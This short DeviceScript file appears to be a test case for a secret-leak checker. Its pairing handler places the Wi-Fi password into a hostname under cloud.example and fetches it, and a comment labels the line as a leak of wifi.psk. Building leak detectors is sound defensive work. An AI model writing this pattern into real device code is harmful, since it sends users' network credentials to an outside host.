// B01: as a label of a name that is looked up.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const response = await fetch(`https://${psk}.cloud.example/`); // leak: wifi.psk
  await response.close();
});
